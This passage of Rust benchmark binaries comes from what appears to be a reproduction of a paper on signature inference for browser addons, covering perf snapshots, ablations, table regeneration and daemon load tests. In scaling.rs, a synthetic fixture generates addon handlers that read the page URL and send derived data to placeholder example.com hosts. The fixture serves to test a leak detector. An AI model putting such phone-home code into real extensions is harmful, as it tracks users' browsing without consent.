    // addon. Two flavors of one-line patch inside worker7:
    //
    // - `one_dead_literal` patches a literal that never escapes the
    //   function. Its content hash changes, nothing downstream does —
    //   only the edited function (plus the top level, which never
    //   splices) re-analyzes. This is the gated case: < 20% of the cold
    //   fixpoint steps.
    // - `one_value_literal` patches a literal that flows into the
    //   function's return value. Every later sibling's entry state
    //   shifts, so invalidation conservatively cascades; recorded for
    //   the trajectory file, not gated.
    let base = synthetic_addon(24);
    let store = Arc::new(MemorySummaryStore::new(4096));
    let populate = run(&base, Some(&store));
    let mut synth = Json::obj();
    synth.set("functions", Json::from(24u32));
    synth.set("populate", stats_json(&populate));
    let mut synth_edits = Json::obj();
    for (label, pattern, replacement, gated) in [
        ("one_dead_literal", "'probe-7'", "'probe-7-patched'", true),
        ("one_value_literal", "'worker-7'", "'worker-7-patched'", false),
    ] {
        let edited = base.replace(pattern, replacement);
        assert_ne!(base, edited, "synthetic edit must change the source");
        let cold = run(&edited, None);
        let warm = run(&edited, Some(&store));
        let stats = warm.incremental.as_ref().expect("warm run has stats");
        let ratio_pct = warm.steps as f64 / cold.steps as f64 * 100.0;
        println!(
            "{:<22} {:<14} {:>9} {:>9} {:>7} {:>7} {:>7}/{}",
            "synthetic(24 fns)",
            label,
            cold.steps,
            warm.steps,
            stats.summary_hits,
            stats.summary_misses,
            stats.functions_reanalyzed,
            stats.total_functions
        );
        println!(
            "  {label}: {:.2}% of cold steps ({} of {}), {:.1}x wall speedup",
            ratio_pct,
            warm.steps,
            cold.steps,
            cold.wall_us as f64 / warm.wall_us.max(1) as f64
        );
        if warm.signature != cold.signature {
            eprintln!("FAIL: synthetic/{label}: warm signature differs from cold");
            failures += 1;
        }
        if gated && ratio_pct >= 20.0 {
            eprintln!(
                "FAIL: single-function edit re-stepped {ratio_pct:.2}% of the cold \
                 fixpoint (gate: < 20%)"
            );
            failures += 1;
        }
        let mut edit_row = Json::obj();
        edit_row.set("cold_steps", Json::from(cold.steps as f64));
        edit_row.set("cold_wall_us", Json::from(cold.wall_us as f64));
        edit_row.set("warm", stats_json(&warm));
        edit_row.set(
            "step_ratio_pct",
            Json::from((ratio_pct * 100.0).round() / 100.0),
        );
        let speedup = cold.wall_us as f64 / warm.wall_us.max(1) as f64;
        edit_row.set("wall_speedup", Json::from((speedup * 100.0).round() / 100.0));
        edit_row.set("gated", Json::Bool(gated));
        synth_edits.set(label, edit_row);
    }
    synth.set("edits", synth_edits);
    doc.set("synthetic_single_function_edit", synth);

    std::fs::write(&out, doc.to_string_pretty() + "\n").expect("write snapshot");
    println!("wrote {out}");
    if failures > 0 {
        eprintln!("FAIL: {failures} incremental gate violation(s)");
        std::process::exit(1);
    }
}
