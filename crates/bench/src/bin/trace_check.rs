//! CI validator for `vet --trace` output: parses a `trace_event` JSON
//! file and asserts the invariants a Perfetto/chrome://tracing load
//! depends on — a non-empty `traceEvents` array, well-formed complete
//! (`"ph":"X"`) events, and strict stack nesting (any two spans either
//! nest or are disjoint; a partial overlap means the span hooks fired
//! out of order).
//!
//! Run with: `trace_check FILE [FILE...]` — exits non-zero with a
//! diagnostic on the first violated invariant.

use minijson::Json;

fn check(path: &str) -> Result<(), String> {
    let text =
        std::fs::read_to_string(path).map_err(|e| format!("cannot read {path}: {e}"))?;
    let doc = Json::parse(&text).map_err(|e| format!("{path}: invalid JSON: {e}"))?;
    let events = doc["traceEvents"]
        .as_array()
        .ok_or_else(|| format!("{path}: no traceEvents array"))?;
    if events.is_empty() {
        return Err(format!("{path}: traceEvents is empty"));
    }

    let mut spans: Vec<(String, f64, f64)> = Vec::new();
    for (i, ev) in events.iter().enumerate() {
        let ph = ev["ph"]
            .as_str()
            .ok_or_else(|| format!("{path}: event {i} has no ph"))?;
        if ev["name"].as_str().is_none() {
            return Err(format!("{path}: event {i} ({ph}) has no name"));
        }
        if ph == "X" {
            let name = ev["name"].as_str().unwrap().to_owned();
            let ts = ev["ts"]
                .as_f64()
                .ok_or_else(|| format!("{path}: X event {name:?} has no ts"))?;
            let dur = ev["dur"]
                .as_f64()
                .ok_or_else(|| format!("{path}: X event {name:?} has no dur"))?;
            if dur < 0.0 {
                return Err(format!("{path}: X event {name:?} has negative dur"));
            }
            spans.push((name, ts, ts + dur));
        }
    }
    if spans.is_empty() {
        return Err(format!("{path}: no complete (ph=X) span events"));
    }

    for (i, (n1, s1, e1)) in spans.iter().enumerate() {
        for (n2, s2, e2) in &spans[i + 1..] {
            let nested = (s1 <= s2 && e2 <= e1) || (s2 <= s1 && e1 <= e2);
            let disjoint = e1 <= s2 || e2 <= s1;
            if !(nested || disjoint) {
                return Err(format!(
                    "{path}: spans {n1:?} [{s1}, {e1}) and {n2:?} [{s2}, {e2}) \
                     partially overlap — span hooks fired out of order"
                ));
            }
        }
    }

    println!(
        "{path}: ok ({} events, {} spans, outermost {:?})",
        events.len(),
        spans.len(),
        spans
            .iter()
            .max_by(|a, b| (a.2 - a.1).total_cmp(&(b.2 - b.1)))
            .map(|(n, _, _)| n.as_str())
            .unwrap_or("?"),
    );
    Ok(())
}

fn main() {
    let paths: Vec<String> = std::env::args().skip(1).collect();
    if paths.is_empty() {
        eprintln!("usage: trace_check FILE [FILE...]");
        std::process::exit(2);
    }
    for path in &paths {
        if let Err(msg) = check(path) {
            eprintln!("{msg}");
            std::process::exit(1);
        }
    }
}
