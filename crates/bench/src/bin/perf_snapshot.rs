//! Performance snapshot for the 10-addon corpus, std-only (no criterion).
//!
//! Runs the whole corpus `runs + 1` times (the paper's methodology from
//! Section 6.2: discard the first pass as warm-up, report medians),
//! printing per-addon P1/P2/P3 medians plus the worklist `steps` counter,
//! and writes `BENCH_pipeline.json` at the repo root — the
//! perf-trajectory file future changes regress against.
//!
//! The snapshot also measures the cost of the sigtrace hooks: a corpus
//! sweep with a no-op `Tracer` attached versus the plain pipeline, as
//! `trace_overhead_pct`, and a sweep with cost attribution enabled
//! (`Pipeline::profile(true)`) as `attr_overhead_pct`. The
//! observability layer's contract is that an attached-but-idle tracer
//! and a live attribution sink each cost under 5%; blowing either gate
//! fails the run (and CI).
//!
//! Flags:
//! - `--runs N`       measured passes after warm-up (default 10)
//! - `--sequential`   analyze addons one at a time instead of on
//!                    `std::thread::scope` workers
//! - `--out PATH`     where to write the JSON (default
//!                    `<repo root>/BENCH_pipeline.json`)

use minijson::Json;
use std::time::{Duration, Instant};

struct AddonPass {
    p1: Duration,
    p2: Duration,
    p3: Duration,
    total: Duration,
    steps: usize,
}

fn analyze_one(addon: &corpus::Addon) -> AddonPass {
    let start = Instant::now();
    let report = addon_sig::analyze_addon(addon.source).expect("pipeline");
    let total = start.elapsed();
    AddonPass {
        p1: report.timings.p1,
        p2: report.timings.p2,
        p3: report.timings.p3,
        total,
        steps: report.analysis.steps,
    }
}

/// One full-corpus pass; returns (per-addon results in corpus order,
/// wall-clock for the whole pass).
fn corpus_pass(addons: &[corpus::Addon], sequential: bool) -> (Vec<AddonPass>, Duration) {
    let start = Instant::now();
    let results: Vec<AddonPass> = if sequential {
        addons.iter().map(analyze_one).collect()
    } else {
        // Each addon's pipeline is independent: fan out one scoped worker
        // per addon and join in corpus order.
        std::thread::scope(|scope| {
            let handles: Vec<_> = addons
                .iter()
                .map(|a| scope.spawn(move || analyze_one(a)))
                .collect();
            handles.into_iter().map(|h| h.join().expect("worker")).collect()
        })
    };
    (results, start.elapsed())
}

fn median(mut xs: Vec<Duration>) -> Duration {
    xs.sort();
    xs[xs.len() / 2]
}

/// Which observability hook an overhead sweep pays for.
#[derive(Clone, Copy, PartialEq)]
enum Arm {
    /// Bare pipeline — the baseline both gates compare against.
    Plain,
    /// A no-op [`sigtrace::Tracer`] attached.
    Traced,
    /// Cost attribution enabled (`Pipeline::profile(true)`): the
    /// worklist tallies per-(function, context, phase) steps and time.
    Attributed,
}

/// One sequential corpus sweep under the given arm, returning total
/// wall-clock. Sequential keeps the comparison free of scheduler noise.
fn sweep(addons: &[corpus::Addon], arm: Arm) -> Duration {
    let start = Instant::now();
    for addon in addons {
        let pipeline = addon_sig::Pipeline::new();
        let report = match arm {
            Arm::Plain => pipeline.run(addon.source),
            Arm::Traced => {
                let mut noop = sigtrace::NoopTracer;
                pipeline.tracer(&mut noop).run(addon.source)
            }
            Arm::Attributed => pipeline.profile(true).run(addon.source),
        };
        std::hint::black_box(report.expect("pipeline"));
    }
    start.elapsed()
}

/// Measures the relative cost of running the corpus with an
/// observability hook attached: plain and hooked sweeps alternate
/// sweep-by-sweep (so thermal or frequency drift hits both arms
/// equally), and each arm's estimate is the minimum over all of its
/// sweeps. The hook cannot make the pipeline *faster*, so each arm's
/// minimum is its noise floor; medians were tried here first and flaked
/// on one-core boxes, where a scheduling burst during one arm's batch
/// survives into the median and reads as phantom overhead. A hooked
/// minimum below the plain one is pure scheduling noise, and the result
/// is clamped at zero rather than reporting a negative overhead.
fn overhead_pct(addons: &[corpus::Addon], runs: usize, arm: Arm) -> f64 {
    let _ = sweep(addons, Arm::Plain); // warm-up, discarded
    let _ = sweep(addons, arm);
    let mut plain = Duration::MAX;
    let mut hooked = Duration::MAX;
    for _ in 0..3 * runs {
        plain = plain.min(sweep(addons, Arm::Plain));
        hooked = hooked.min(sweep(addons, arm));
    }
    let pct = (hooked.as_secs_f64() - plain.as_secs_f64()) / plain.as_secs_f64() * 100.0;
    pct.max(0.0)
}

fn secs(d: Duration) -> f64 {
    // Round to microseconds so the JSON diffs stay readable.
    (d.as_secs_f64() * 1e6).round() / 1e6
}

fn main() {
    let args: Vec<String> = std::env::args().skip(1).collect();
    let mut runs = 10usize;
    let mut sequential = false;
    let mut out: Option<String> = None;
    let mut i = 0;
    while i < args.len() {
        match args[i].as_str() {
            "--runs" => {
                i += 1;
                runs = args[i].parse().expect("--runs N");
            }
            "--sequential" => sequential = true,
            "--out" => {
                i += 1;
                out = Some(args[i].clone());
            }
            other => {
                eprintln!("unknown flag {other}");
                std::process::exit(2);
            }
        }
        i += 1;
    }
    let out = out.unwrap_or_else(|| {
        format!("{}/../../BENCH_pipeline.json", env!("CARGO_MANIFEST_DIR"))
    });

    let addons = corpus::addons();
    let n = addons.len();

    // Warm-up pass (discarded) + measured passes.
    let _ = corpus_pass(&addons, sequential);
    let mut walls: Vec<Duration> = Vec::with_capacity(runs);
    let mut per_addon: Vec<Vec<AddonPass>> = (0..n).map(|_| Vec::with_capacity(runs)).collect();
    for _ in 0..runs {
        let (results, wall) = corpus_pass(&addons, sequential);
        walls.push(wall);
        for (slot, r) in per_addon.iter_mut().zip(results) {
            slot.push(r);
        }
    }

    let wall_median = median(walls);
    println!(
        "perf_snapshot: {n} addons, {runs} measured passes ({} mode)",
        if sequential { "sequential" } else { "parallel" }
    );
    println!(
        "{:<22} {:>9} {:>9} {:>9} {:>9} {:>10}",
        "addon", "p1 (s)", "p2 (s)", "p3 (s)", "total (s)", "steps"
    );

    let mut doc = Json::obj();
    doc.set("schema", Json::from(1u32));
    doc.set("runs", Json::from(runs as u32));
    doc.set(
        "mode",
        Json::from(if sequential { "sequential" } else { "parallel" }),
    );
    doc.set("end_to_end_s", Json::from(secs(wall_median)));
    let mut addons_json = Json::obj();
    let mut sum_total = Duration::ZERO;
    for (addon, passes) in addons.iter().zip(&per_addon) {
        let p1 = median(passes.iter().map(|p| p.p1).collect());
        let p2 = median(passes.iter().map(|p| p.p2).collect());
        let p3 = median(passes.iter().map(|p| p.p3).collect());
        let total = median(passes.iter().map(|p| p.total).collect());
        let steps = passes[0].steps;
        assert!(
            passes.iter().all(|p| p.steps == steps),
            "steps must be deterministic across passes for {}",
            addon.name
        );
        sum_total += total;
        println!(
            "{:<22} {:>9.4} {:>9.4} {:>9.4} {:>9.4} {:>10}",
            addon.name,
            p1.as_secs_f64(),
            p2.as_secs_f64(),
            p3.as_secs_f64(),
            total.as_secs_f64(),
            steps
        );
        let mut row = Json::obj();
        row.set("p1_s", Json::from(secs(p1)));
        row.set("p2_s", Json::from(secs(p2)));
        row.set("p3_s", Json::from(secs(p3)));
        row.set("total_s", Json::from(secs(total)));
        row.set("steps", Json::from(steps as u32));
        addons_json.set(addon.name, row);
    }
    doc.set("sum_addon_total_s", Json::from(secs(sum_total)));
    doc.set("addons", addons_json);
    println!(
        "end-to-end corpus wall (median): {:.4} s   sum of addon totals: {:.4} s",
        wall_median.as_secs_f64(),
        sum_total.as_secs_f64()
    );

    // Observability overhead gates: a no-op tracer attached to the
    // pipeline must cost < 5% on a corpus sweep, and so must full cost
    // attribution (the worklist's dense per-bucket tally).
    let overhead = overhead_pct(&addons, runs.max(5), Arm::Traced);
    doc.set(
        "trace_overhead_pct",
        Json::from((overhead * 100.0).round() / 100.0),
    );
    println!("no-op tracer overhead: {overhead:+.2}%");
    let attr_overhead = overhead_pct(&addons, runs.max(5), Arm::Attributed);
    doc.set(
        "attr_overhead_pct",
        Json::from((attr_overhead * 100.0).round() / 100.0),
    );
    println!("cost-attribution overhead: {attr_overhead:+.2}%");

    std::fs::write(&out, doc.to_string_pretty() + "\n").expect("write snapshot");
    println!("wrote {out}");

    if overhead >= 5.0 {
        eprintln!(
            "FAIL: no-op tracer overhead {overhead:.2}% breaches the 5% gate; \
             a hot loop is calling the tracer per step instead of \
             accumulating and flushing per phase"
        );
        std::process::exit(1);
    }
    if attr_overhead >= 5.0 {
        eprintln!(
            "FAIL: cost-attribution overhead {attr_overhead:.2}% breaches the \
             5% gate; the worklist must tally into dense per-function \
             buckets and flush once at finish, not call the sink per step"
        );
        std::process::exit(1);
    }
}
