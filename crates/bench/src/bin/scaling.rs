//! Scaling micro-experiment: analysis time per phase as synthetic addon
//! size grows. Supports the EXPERIMENTS.md discussion of the timing-shape
//! difference between this reproduction and the paper: which phase
//! dominates depends on the implementation's cost model, and here the
//! numbers show where ours spends its time.
//!
//! Run with: `cargo run --release -p bench --bin scaling`

use jsanalysis::AnalysisConfig;
use jssig::FlowLattice;
use std::fmt::Write as _;
use std::time::Instant;

/// Generates a synthetic addon with `n` event handlers, each reading the
/// URL, doing some local string work, and phoning home.
fn synthetic_addon(n: usize) -> String {
    let mut src = String::new();
    for i in 0..n {
        let _ = write!(
            src,
            r#"
function handler{i}(event) {{
  var url = content.location.href;
  var tag = "h{i}";
  var q = "http://svc{i}.example.com/collect?tag=" + tag;
  if (url != "about:blank") {{
    var parts = url.split("/");
    var count = 0;
    var j = 0;
    while (j < parts.length) {{
      count = count + 1;
      j = j + 1;
    }}
    var req = new XMLHttpRequest();
    req.open("GET", q + "&n=" + count, true);
    req.onload = function () {{
      if (req.status == 200) {{
        done{i} = req.responseText;
      }}
    }};
    req.send(null);
  }}
}}
gBrowser.addEventListener("load", handler{i}, true);
"#
        );
    }
    src
}

fn main() {
    let config = AnalysisConfig::default();
    let lattice = FlowLattice::paper();
    println!(
        "{:>9} {:>7} {:>9} {:>9} {:>9} {:>8}",
        "handlers", "stmts", "P1(ms)", "P2(ms)", "P3(ms)", "P2/P1"
    );
    for n in [1usize, 2, 4, 8, 16] {
        let src = synthetic_addon(n);
        let ast = jsparser::parse(&src).expect("synthetic parses");
        let lowered = jsir::lower(&ast);

        let t = Instant::now();
        let analysis = jsanalysis::analyze(&lowered, &config);
        let p1 = t.elapsed();
        let t = Instant::now();
        let pdg = jspdg::Pdg::build(&lowered, &analysis);
        let p2 = t.elapsed();
        let t = Instant::now();
        let sig = jssig::infer_signature(&lowered, &analysis, &pdg, &lattice);
        let p3 = t.elapsed();
        assert!(!sig.flows.is_empty(), "synthetic addon must produce flows");

        println!(
            "{:>9} {:>7} {:>9.1} {:>9.1} {:>9.1} {:>8.2}",
            n,
            lowered.program.stmt_count(),
            p1.as_secs_f64() * 1000.0,
            p2.as_secs_f64() * 1000.0,
            p3.as_secs_f64() * 1000.0,
            p2.as_secs_f64() / p1.as_secs_f64(),
        );
    }
    println!(
        "\nBoth P1 and P2 grow superlinearly with statement count, but in\n\
         this implementation P1 (the abstract interpreter, which clones\n\
         whole abstract heaps per program point) dominates at every size,\n\
         whereas the paper's Scala prototype spent most of its time in P2.\n\
         P3 stays negligible in both, as the paper reports."
    );
}
