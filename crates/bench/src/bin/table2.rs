//! Regenerates Table 2 of the paper: per-addon signature-inference
//! verdicts (pass / fail / leak) and the analysis time split into the
//! paper's three phases (P1 base analysis, P2 PDG construction, P3
//! signature inference). Timing methodology per Section 6.2: 11 runs,
//! discard the first, report the median. Pass `--quick` for 3 runs.

use bench::{measure_addon, secs};

fn main() {
    let quick = std::env::args().any(|a| a == "--quick");
    let runs = if quick { 3 } else { 10 };
    println!(
        "{:<20} {:^8} {:^8} | {:>8} {:>8} {:>8}",
        "Addon Name", "Paper", "Ours", "P1(s)", "P2(s)", "P3(s)"
    );
    println!("{}", "-".repeat(70));
    let mut ok = 0;
    for addon in corpus::addons() {
        let row = measure_addon(&addon, runs);
        let matches = row.result == addon.paper_verdict.to_string();
        if matches {
            ok += 1;
        }
        println!(
            "{:<20} {:^8} {:^8} | {:>8} {:>8} {:>8}{}",
            row.name,
            addon.paper_verdict.to_string(),
            row.result,
            secs(row.p1),
            secs(row.p2),
            secs(row.p3),
            if matches { "" } else { "   <-- MISMATCH" }
        );
    }
    println!("{}", "-".repeat(70));
    println!("verdict agreement with the paper: {ok}/10");
}
