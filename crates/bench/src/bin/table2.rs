//! Regenerates Table 2 of the paper: per-addon signature-inference
//! verdicts (pass / fail / leak) and the analysis time split into the
//! paper's three phases (P1 base analysis, P2 PDG construction, P3
//! signature inference). Timing methodology per Section 6.2: 11 runs,
//! discard the first, report the median. Pass `--quick` for 3 runs.
//!
//! Addons are measured on parallel threads by default (rows are printed
//! in corpus order once all threads join). On machines with fewer cores
//! than addons the timeslicing inflates per-phase wall times; pass
//! `--sequential` when the timings themselves are the point.

use bench::{measure_addon, secs, Table2Row};

fn main() {
    let args: Vec<String> = std::env::args().collect();
    let quick = args.iter().any(|a| a == "--quick");
    let sequential = args.iter().any(|a| a == "--sequential");
    let runs = if quick { 3 } else { 10 };
    let addons = corpus::addons();
    let rows: Vec<Table2Row> = if sequential {
        addons.iter().map(|a| measure_addon(a, runs)).collect()
    } else {
        std::thread::scope(|s| {
            let handles: Vec<_> = addons
                .iter()
                .map(|a| s.spawn(move || measure_addon(a, runs)))
                .collect();
            handles
                .into_iter()
                .map(|h| h.join().expect("measurement thread panicked"))
                .collect()
        })
    };
    println!(
        "{:<20} {:^8} {:^8} | {:>8} {:>8} {:>8}",
        "Addon Name", "Paper", "Ours", "P1(s)", "P2(s)", "P3(s)"
    );
    println!("{}", "-".repeat(70));
    let mut ok = 0;
    for (addon, row) in addons.iter().zip(&rows) {
        let matches = row.result == addon.paper_verdict.to_string();
        if matches {
            ok += 1;
        }
        println!(
            "{:<20} {:^8} {:^8} | {:>8} {:>8} {:>8}{}",
            row.name,
            addon.paper_verdict.to_string(),
            row.result,
            secs(row.p1),
            secs(row.p2),
            secs(row.p3),
            if matches { "" } else { "   <-- MISMATCH" }
        );
    }
    println!("{}", "-".repeat(70));
    println!("verdict agreement with the paper: {ok}/10");
}
