//! Prometheus-exposition smoke check for the vetting daemon, std-only.
//!
//! Reads the daemon's NDJSON responses from stdin (the output of a
//! `vet serve --stdio` session), finds the `kind:"metrics"` line, and
//! validates its embedded Prometheus text body: every sample line must
//! parse, and the advertised sample count must match. Exits nonzero on
//! any failure, so ci.sh can pipe a scripted session straight through:
//!
//! ```text
//! printf '...\n{"kind":"metrics"}\n{"kind":"shutdown"}\n' \
//!   | vet serve --stdio | prom_check
//! ```

use minijson::Json;
use std::io::Read;

fn main() {
    let mut input = String::new();
    std::io::stdin()
        .read_to_string(&mut input)
        .expect("read stdin");

    let mut checked = 0usize;
    for (i, line) in input.lines().enumerate() {
        if line.trim().is_empty() {
            continue;
        }
        let resp = match Json::parse(line) {
            Ok(v) => v,
            Err(e) => {
                eprintln!("prom_check: line {} is not JSON: {e}", i + 1);
                std::process::exit(1);
            }
        };
        if resp["kind"] != "metrics" {
            continue;
        }
        let Some(text) = resp["prometheus"].as_str() else {
            eprintln!("prom_check: metrics response has no prometheus text");
            std::process::exit(1);
        };
        let samples = match sigobs::validate_prometheus_text(text) {
            Ok(n) => n,
            Err(e) => {
                eprintln!("prom_check: invalid exposition: {e}");
                std::process::exit(1);
            }
        };
        let advertised = resp["samples"].as_f64().map(|n| n as usize);
        if advertised != Some(samples) {
            eprintln!(
                "prom_check: sample count mismatch: response says {advertised:?}, text has {samples}"
            );
            std::process::exit(1);
        }
        if samples == 0 {
            eprintln!("prom_check: exposition is empty (daemon recorded nothing?)");
            std::process::exit(1);
        }
        checked += 1;
        println!("prom_check: metrics line ok ({samples} samples)");
    }
    if checked == 0 {
        eprintln!("prom_check: no kind:\"metrics\" line in input");
        std::process::exit(1);
    }
}
