//! Ablation study for the two design choices DESIGN.md calls out:
//!
//! 1. **String domain**: the paper's prefix string domain (Section 5)
//!    versus the flat constant-string baseline it argues is insufficient.
//!    Measured as the usefulness of the inferred network domain at each
//!    addon's sinks (exact / prefix / unknown).
//! 2. **Context sensitivity**: call-string depth k = 0 / 1 / 2.
//!    Measured as Table 2 verdict agreement.
//!
//! Run with: `cargo run --release -p bench --bin ablation`

use jsanalysis::{AnalysisConfig, SinkKind, StringDomain};
use jsdomains::Pre;
use jssig::FlowLattice;

#[derive(Default)]
struct DomainCounts {
    exact: usize,
    prefix: usize,
    unknown: usize,
}

fn classify(domains: &mut DomainCounts, d: &Pre) {
    match d {
        Pre::Exact(_) => domains.exact += 1,
        Pre::Prefix(p) if p.len() > "https://".len() => domains.prefix += 1,
        _ => domains.unknown += 1,
    }
}

fn run_config(config: &AnalysisConfig) -> (DomainCounts, usize) {
    let mut counts = DomainCounts::default();
    let mut agreement = 0;
    for addon in corpus::addons() {
        let report = addon_sig::Pipeline::new()
            .config(config.clone())
            .lattice(FlowLattice::paper())
            .run(addon.source)
            .expect("pipeline");
        // One domain classification per addon: its best send sink.
        let mut best: Option<Pre> = None;
        for s in &report.signature.sinks {
            if s.kind != SinkKind::Send {
                continue;
            }
            let better = match (&best, &s.domain) {
                (None, _) => true,
                (Some(Pre::Exact(_)), _) => false,
                (Some(_), Pre::Exact(_)) => true,
                (Some(Pre::Prefix(old)), Pre::Prefix(new)) => new.len() > old.len(),
                _ => false,
            };
            if better {
                best = Some(s.domain.clone());
            }
        }
        if let Some(d) = best {
            classify(&mut counts, &d);
        }
        let cmp = jssig::compare(
            &report.signature,
            &addon.manual,
            addon.real_extra_flow,
            addon.real_extra_sink,
        );
        if cmp.verdict == addon.paper_verdict {
            agreement += 1;
        }
    }
    (counts, agreement)
}

fn main() {
    println!("=== Ablation 1: string domain (k = 1) ===");
    println!(
        "{:<16} {:>6} {:>7} {:>8} {:>18}",
        "domain", "exact", "prefix", "unknown", "Table2 agreement"
    );
    for (name, sd) in [
        ("prefix (paper)", StringDomain::Prefix),
        ("constant-only", StringDomain::ConstantOnly),
    ] {
        let config = AnalysisConfig {
            string_domain: sd,
            ..AnalysisConfig::default()
        };
        let (c, agree) = run_config(&config);
        println!(
            "{:<16} {:>6} {:>7} {:>8} {:>15}/10",
            name, c.exact, c.prefix, c.unknown, agree
        );
    }

    println!("\n=== Ablation 2: context-sensitivity depth (prefix domain) ===");
    println!(
        "{:<16} {:>6} {:>7} {:>8} {:>18}",
        "call-string k", "exact", "prefix", "unknown", "Table2 agreement"
    );
    for k in [0usize, 1, 2] {
        let config = AnalysisConfig {
            context_depth: k,
            ..AnalysisConfig::default()
        };
        let (c, agree) = run_config(&config);
        println!(
            "{:<16} {:>6} {:>7} {:>8} {:>15}/10",
            format!("k = {k}"),
            c.exact,
            c.prefix,
            c.unknown,
            agree
        );
    }
}
