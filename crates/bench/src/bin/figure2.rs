//! Prints the annotated PDG of the paper's Figure 1 example program
//! (Figure 2), as source-line edges with their annotations.

use std::collections::BTreeSet;

fn main() {
    let src = corpus::figure1_source();
    let offset = corpus::FIGURE1_PREAMBLE.lines().count() as u32;
    let report = addon_sig::analyze_addon(&src).expect("figure 1 analyzes");

    println!("Annotated PDG of the Figure 1 example (paper Figure 2).");
    println!("Edges between example lines (preamble stripped):\n");
    let mut seen: BTreeSet<(u32, u32, String)> = BTreeSet::new();
    for e in report.pdg.edges() {
        let from = report.lowered.program.stmt(e.from).span.line;
        let to = report.lowered.program.stmt(e.to).span.line;
        if from <= offset || to <= offset || from == to {
            continue;
        }
        seen.insert((from - offset, to - offset, e.ann.to_string()));
    }
    for (from, to, ann) in seen {
        println!("  line {from:>2} --{ann}--> line {to:>2}");
    }
}
