//! Regenerates Table 1 of the paper: the benchmark roster with name,
//! purpose, category, size in AST nodes, and download counts. Prints the
//! paper's original sizes next to the sizes of our synthetic
//! reproductions (measured with the same Rhino-style AST-node metric).

fn main() {
    println!(
        "{:<20} {:<55} {:^8} {:>10} {:>10} {:>12}",
        "Addon Name", "Listed Purpose", "Category", "Size(paper)", "Size(ours)", "# Downloads"
    );
    println!("{}", "-".repeat(120));
    for addon in corpus::addons() {
        let program = jsparser::parse(addon.source).expect("corpus parses");
        let ours = jsparser::count_nodes(&program);
        println!(
            "{:<20} {:<55} {:^8} {:>10} {:>10} {:>12}",
            addon.name,
            addon.listed_purpose,
            addon.category.to_string(),
            addon.paper_ast_nodes,
            ours,
            addon.downloads
        );
    }
}
