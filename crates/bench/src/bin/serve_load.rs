//! Load benchmark for the `sigserve` vetting daemon, std-only.
//!
//! Boots an in-process daemon on an ephemeral loopback port with the
//! real pipeline (`addon_sig::service_engine`), then measures three
//! things an addon-market deployment cares about:
//!
//! 1. **cold** — per-request latency with an empty cache (every corpus
//!    addon analyzed from scratch),
//! 2. **cached** — per-request latency for identical re-submissions
//!    (content-addressed cache hits), and
//! 3. **load** — sustained throughput with several concurrent clients
//!    replaying the corpus with duplicates, plus the resulting
//!    cache-hit rate from the daemon's own counters.
//!
//! Writes `BENCH_serve.json` at the repo root — the service-perf
//! trajectory file future changes regress against.
//!
//! Flags:
//! - `--clients N`   concurrent load clients (default 4)
//! - `--rounds N`    corpus replays per client in the load phase (default 3)
//! - `--workers N`   daemon worker threads (default 4)
//! - `--check`       tiny fast run that only asserts the invariants
//!                   (all verdicts ok, cache actually hits, cached much
//!                   faster than cold, and the daemon's structured event
//!                   log replays into consistent per-job lifecycles) and
//!                   writes nothing. Also forces a tiny job queue and
//!                   runs an extra overload burst so shedding + sampled
//!                   `job_rejected` logging are exercised: the sampled
//!                   log must still replay, and kept records plus
//!                   declared `suppressed` counts must reconcile exactly
//!                   with the daemon's shed count. Check mode also boots
//!                   the daemon with a per-function summary store and
//!                   runs a resubmit-after-edit scenario: a synthetic
//!                   addon, then a one-line patch of it, must come back
//!                   with the exact cold signature while the daemon's
//!                   `summary_lookup` record shows most functions
//!                   spliced rather than re-analyzed.
//! - `--out PATH`    where to write the JSON (default
//!                   `<repo root>/BENCH_serve.json`)
//! - `--fleet N`     benchmark the `sigfleet` coordinator + N worker
//!                   nodes over loopback instead of a single daemon:
//!                   a worker-kill/requeue test, deterministic
//!                   fleet-wide dedup, whole-corpus byte-identity
//!                   against a cold local analysis, a 1..N-node scaling
//!                   sweep on fixed-service-time stub engines, and a
//!                   causal merge of the per-node event logs that must
//!                   replay as one valid lifecycle per job. Writes
//!                   `BENCH_fleet.json` (default at the repo root).
//! - `--connections N`  many-connection benchmark for the event-driven
//!                   server core: hold N mostly-idle connections open
//!                   (in re-exec'd holder subprocesses, since this
//!                   container caps any one process at 20k fds) with a
//!                   slow connect/close churn, then measure an active
//!                   cache-hit request stream through the crowd. Writes
//!                   `BENCH_serve_conn.json` (default at the repo root);
//!                   ci.sh gates its active p99.
//! - `--ladder`      benchmark the tiered vetting ladder against a
//!                   single full-sensitivity daemon on a benign-heavy
//!                   cold workload (synthetic flow-free addons plus the
//!                   corpus and the attack gallery, every source
//!                   distinct so nothing cache-hits). Asserts the
//!                   ladder's invariants — every signature byte-equal
//!                   to the single-tier daemon's, tier0-resolved plus
//!                   escalated jobs account for every job, the attack
//!                   gallery all escalates, and the event log replays
//!                   with exactly the escalated lifecycles the counters
//!                   claim — then writes `BENCH_ladder.json` with the
//!                   ladder-over-single throughput ratio ci.sh gates.
//! - `--metrics-dir DIR`  (fleet + connections + ladder modes)
//!                   metrics-history ring, for `vet metrics-report
//!                   --gate`

use minijson::Json;
use sigserve::{Client, ServeConfig, Server};
use std::sync::Arc;
use std::time::Instant;

fn percentile_us(sorted: &[u128], q: f64) -> f64 {
    assert!(!sorted.is_empty());
    let idx = ((sorted.len() - 1) as f64 * q).round() as usize;
    sorted[idx] as f64
}

struct LatencyStats {
    p50: f64,
    p95: f64,
    p99: f64,
    mean: f64,
}

fn latency_stats(mut micros: Vec<u128>) -> LatencyStats {
    micros.sort_unstable();
    let mean = micros.iter().sum::<u128>() as f64 / micros.len() as f64;
    LatencyStats {
        p50: percentile_us(&micros, 0.50),
        p95: percentile_us(&micros, 0.95),
        p99: percentile_us(&micros, 0.99),
        mean,
    }
}

fn stats_json(s: &LatencyStats) -> Json {
    let mut o = Json::obj();
    o.set("p50_us", Json::from(s.p50));
    o.set("p95_us", Json::from(s.p95));
    o.set("p99_us", Json::from(s.p99));
    o.set("mean_us", Json::from(s.mean));
    o
}

/// Vets every corpus addon once on `client`, asserting `verdict:"ok"`,
/// and returns the client-observed per-request latencies.
fn corpus_round(client: &mut Client, addons: &[corpus::Addon]) -> Vec<u128> {
    addons
        .iter()
        .map(|a| {
            let t0 = Instant::now();
            let resp = client.vet_source(Some(a.name), a.source).expect("vet");
            let micros = t0.elapsed().as_micros();
            assert_eq!(resp["verdict"], "ok", "{} must vet cleanly", a.name);
            micros
        })
        .collect()
}

fn main() {
    let args: Vec<String> = std::env::args().skip(1).collect();
    // Hidden holder mode (re-exec'd by --connections): not part of the
